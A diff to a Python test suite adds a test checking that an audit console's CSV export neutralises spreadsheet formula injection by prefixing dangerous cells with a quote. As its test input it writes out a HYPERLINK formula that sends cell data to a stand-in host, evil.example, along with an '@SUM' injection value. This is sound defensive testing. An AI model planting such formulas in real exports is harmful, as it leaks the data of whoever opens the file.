@@ -6,8 +6,10 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import json
 import re
 import secrets
+from decimal import Decimal
 
 from tests.api_fixtures import auth, new_partner, new_staff
 from tests.settlement_fixtures import STANDARD_ORDERS, STANDARD_PARTNERS, past_cycle, seed_cycle, standard_statement
@@ -121,3 +123,21 @@ def test_console_audit_page_filters_paginates_and_exports(api_client, engine):
     exported = api_client.get(f"/console/audit.csv?actor={actor.name}")
     assert exported.headers["content-type"].startswith("text/csv")
     assert len(list(csv.DictReader(io.StringIO(exported.text)))) == 55
+
+
+def test_an_exported_cell_a_spreadsheet_would_run_is_written_as_text(api_client, engine):
+    from core import audit
+    from core.csv_export import safe_cell
+
+    actor = audit.Actor(f"csv-{secrets.token_hex(3)}", "operator", "cli")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with engine.begin() as conn:
+        audit.record(conn, actor, "order.reject", "@SUM(A1:A9)", None, {"credit": "-12.50"}, formula)
+    viewer = new_staff(engine, "finance")
+    api_client.post("/console/login", data={"username": viewer.username, "password": viewer.password,
+                                            "next": "/console/audit"})
+    [row] = csv.DictReader(io.StringIO(api_client.get(f"/console/audit.csv?actor={actor.name}").text))
+    assert row["note"] == "'" + formula and row["target"] == "'@SUM(A1:A9)"
+    assert json.loads(row["after"]) == {"credit": "-12.50"}  # a JSON cell starts with {: left as it is
+    assert [safe_cell(v) for v in ("-12.50", "+3", "-", "+86 21 5555 0000", Decimal("-1"), 7)] == [
+        "-12.50", "+3", "'-", "'+86 21 5555 0000", Decimal("-1"), 7]  # numbers stay numbers
